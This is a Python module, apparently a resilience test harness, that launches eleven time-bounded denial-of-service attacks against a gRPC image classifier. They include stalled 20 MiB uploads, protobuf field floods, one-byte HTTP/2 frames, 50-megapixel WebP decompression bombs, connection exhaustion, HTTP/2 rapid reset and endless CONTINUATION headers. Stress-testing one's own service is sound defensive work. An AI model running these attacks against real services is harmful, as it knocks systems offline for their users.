"""Hostile input, one kind a function; run as `-m run.attacks NAME ADDRESS`.

Each is bounded in time and prints what it did in a line.
"""

import concurrent.futures
import contextlib
import io
import socket
import sys
import threading
import time

from raw_http2 import (CONTINUATION, END_HEADERS, HEADERS, RST_STREAM,
                       RawConnection, call_headers, frame, message_head)

from . import places

CLASSIFY = "/wanwu.v1.ImageClassifier/Classify"
MESSAGE_BYTES = 20 << 20
# Longest for each, without what one call needs to end.
SECONDS = 30
CALL_S = 60
SIDE = 7071  # 50 megapixels

# A ClassifyRequest's field 1, `image`, of one byte.
IMAGE_FIELD = b"\x0a\x01x"

CALLS_AT_ONCE = 100
_HEAD = call_headers(CLASSIFY)


def stalled_senders(address):
    """100 callers send 19 of 20 MiB and then nothing."""
    message = message_head(MESSAGE_BYTES)
    message += b"\x0a" + varint(MESSAGE_BYTES - 5) + bytes(19 << 20)
    calls = [_begin(address) for _ in range(100)]
    limit = time.monotonic() + SECONDS - 10
    with concurrent.futures.ThreadPoolExecutor(len(calls)) as threads:
        sent = sum(threads.map(
            lambda call: call.send(message, until=limit), calls))
    time.sleep(10)
    for call in calls:
        call.close()
    return f"{sent / 1e6:.0f} MB taken"


def tiny_fields(address):
    """20 MiB of `image` fields of one byte, five times over."""
    return _send(address, IMAGE_FIELD * (MESSAGE_BYTES // 3 - 2))


def unknown_fields(address):
    """20 MiB of unknown fields of two bytes, five times over."""
    return _send(address, b"\x78\x01" * (MESSAGE_BYTES // 2 - 2))


def unknown_payload(address):
    """19 MiB in one unknown field beside a small picture, 16 at a time."""
    body = (b"\x7a" + varint(19 << 20) + bytes(19 << 20)
            + b"\x0a" + varint(4) + b"\xff\xd8\xff\xe0")
    return _send(address, body, count=32, at_once=16)


def small_frames(address):
    """1 MB of `image` fields of one byte in DATA frames of one byte."""
    body = IMAGE_FIELD * 333_333
    call = _begin(address)
    sent = call.send(message_head(len(body)) + body, piece=1,
                     until=time.monotonic() + SECONDS)
    time.sleep(10)
    call.close()
    return f"{sent} frames taken"


def large_webps(address):
    """Four lossy WebPs of 50 megapixels with alpha, at once."""
    return _classify(address, [_made("large.webp", _noise)] * 4)


def small_webps(address):
    """100 WebPs of 38 bytes and 50 megapixels, at once."""
    return _classify(address, [_made("small.webp", _plain)] * 100)


def idle_connections(address):
    """1,100 connections, which stay open for ten seconds."""
    host, port = address.rsplit(":", 1)
    connections = []
    for _ in range(1100):
        try:
            connections.append(socket.create_connection((host, int(port)), 1))
        except OSError:
            break
    time.sleep(10)
    for connection in connections:
        connection.close()
    return f"{len(connections)} opened"


def stuck_log_reader(address):
    """Pictures that are none, for ten seconds, each of which is logged."""
    count = 0
    end = time.monotonic() + 10
    while time.monotonic() < end:
        _classify(address, [b"no picture"] * 100, patience_s=5)
        count += 100
    return f"{count} sent"


def rapid_reset(address):
    """Calls that are reset as soon as they are begun, for ten seconds."""

    def calls(first):
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, _HEAD)
            + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in range(first, first + 2 * CALLS_AT_ONCE, 2))

    return f"{_flood(address, calls) * CALLS_AT_ONCE} calls taken"


def endless_headers(address):
    """A call's head that goes on in CONTINUATION frames for ten seconds."""
    block = call_headers(CLASSIFY, x_fill="x" * 100) * 10

    def pieces(first):
        begin = frame(HEADERS, 0, 1, block) if first == 1 else b""
        return begin + frame(CONTINUATION, 0, 1, block) * 16

    count = _flood(address, pieces)
    return f"{count * 16 * len(block) / 1e6:.0f} MB taken"


ATTACKS = [stalled_senders, tiny_fields, unknown_fields, unknown_payload,
           small_frames, large_webps, small_webps, idle_connections,
           stuck_log_reader, rapid_reset, endless_headers]


def prepare():
    """Makes what takes long."""
    _made("large.webp", _noise)
    _made("small.webp", _plain)


def _flood(address, piece_from, seconds=10):
    """Sends pieces on one connection, and takes what comes. How many went.

    `piece_from` gets the number of a stream that was not used before.
    """
    connection = RawConnection(address, timeout=seconds)
    taker = threading.Thread(target=_take_all, args=[connection.socket])
    taker.start()
    end = time.monotonic() + seconds
    count = 0
    try:
        while time.monotonic() < end:
            connection.socket.sendall(
                piece_from(1 + count * 2 * CALLS_AT_ONCE))
            count += 1
    except OSError:
        pass
    with contextlib.suppress(OSError):
        connection.socket.shutdown(socket.SHUT_RDWR)
    taker.join()
    connection.close()
    return count


def _take_all(connection):
    with contextlib.suppress(OSError):
        while connection.recv(1 << 20):
            pass


def _begin(address):
    """A call of Classify frame by frame, on a connection of its own."""
    connection = RawConnection(address, timeout=10)
    connection.call(CLASSIFY)
    return connection


def _classify(address, pictures, patience_s=CALL_S):
    return _call(address, [b"\x0a" + varint(len(picture)) + picture
                           for picture in pictures], len(pictures), patience_s)


def _send(address, body, count=5, at_once=1):
    return _call(address, [body] * count, at_once, CALL_S)


def _call(address, bodies, at_once, patience_s):
    """How each of the calls ended."""
    import grpc  # pylint: disable=import-outside-toplevel
    ends = {}
    with grpc.insecure_channel(address) as channel:
        method = channel.unary_unary(CLASSIFY)

        def call(body):
            try:
                method(body, timeout=patience_s)
                return "OK"
            except grpc.RpcError as error:
                return error.code().name

        with concurrent.futures.ThreadPoolExecutor(at_once) as threads:
            for end in threads.map(call, bodies):
                ends[end] = ends.get(end, 0) + 1
    return ", ".join(f"{count} {end}" for end, count in sorted(ends.items()))


def _made(name, make):
    """The bytes of a picture that takes seconds to make."""
    file = places.OUT / "hostile" / name
    if not file.exists():
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(make())
    return file.read_bytes()


def _plain():
    from PIL import Image  # pylint: disable=import-outside-toplevel
    out = io.BytesIO()
    Image.new("RGB", (SIDE, SIDE), (9, 9, 9)).save(
        out, "WEBP", lossless=True, quality=0, method=0)
    return out.getvalue()


def _noise():
    # pylint: disable=import-outside-toplevel
    import random
    from PIL import Image
    small = Image.frombytes("RGBA", (20, 20),
                            random.Random(1).randbytes(4 * 20 * 20))
    out = io.BytesIO()
    small.resize((SIDE, SIDE), Image.Resampling.BILINEAR).save(
        out, "WEBP", quality=1, method=0, alpha_quality=0)
    return out.getvalue()


def varint(value):
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


if __name__ == "__main__":
    print({attack.__name__: attack for attack in ATTACKS}[sys.argv[1]](
        sys.argv[2]))
